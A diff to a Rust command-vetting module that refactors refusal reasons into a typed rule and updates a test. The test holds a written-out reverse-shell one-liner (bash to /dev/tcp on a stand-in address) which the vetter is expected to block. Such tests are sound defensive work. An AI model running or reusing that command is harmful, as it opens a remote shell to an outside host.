@@ -3,7 +3,7 @@
 
 use std::ffi::OsString;
 
-use scan::shell::{Blocklist, Decision, read_with};
+use scan::shell::{Blocklist, Decision, Rule, read_with};
 
 /// A command of the person at the terminal that may run in a cage.
 ///
@@ -26,7 +26,7 @@ impl Vetted {
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct Never {
     /// The rule.
-    pub rule: &'static str,
+    pub rule: Rule,
     /// What is said of it.
     pub why: String,
 }
@@ -41,8 +41,8 @@ pub fn vet(words: &[OsString]) -> Result<Vetted, Never> {
         return Ok(Vetted { words: words.to_vec() });
     }
     Err(reading.decisive.map_or_else(
-        || Never { rule: "shell", why: String::new() },
-        |it| Never { rule: it.rule.as_str(), why: it.reason },
+        || Never { rule: Rule::Blocked, why: String::new() },
+        |it| Never { rule: it.rule, why: it.reason },
     ))
 }
 
@@ -52,8 +52,8 @@ pub fn as_shell_text(words: &[OsString]) -> String {
     words.iter().map(|it| quoted(&it.to_string_lossy())).collect::<Vec<_>>().join(" ")
 }
 
-/// In single quotes, unless it is plain.
-fn quoted(word: &str) -> String {
+/// A word in single quotes, unless it is plain.
+pub(crate) fn quoted(word: &str) -> String {
     let plain = |it: char| it.is_ascii_alphanumeric() || "-_./:=@%+,".contains(it);
     if !word.is_empty() && word.chars().all(plain) {
         return word.to_owned();
@@ -79,7 +79,8 @@ mod tests {
     fn what_must_never_run_is_refused_with_its_rule() {
         let typed = words(&["sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]);
         let never = vet(&typed).map(Vetted::spend).unwrap_err();
-        assert!(!never.rule.is_empty() && !never.why.is_empty(), "{never:?}");
+        assert_eq!(never.rule, Rule::ReverseShell);
+        assert!(!never.why.is_empty(), "{never:?}");
     }
 
     #[test]
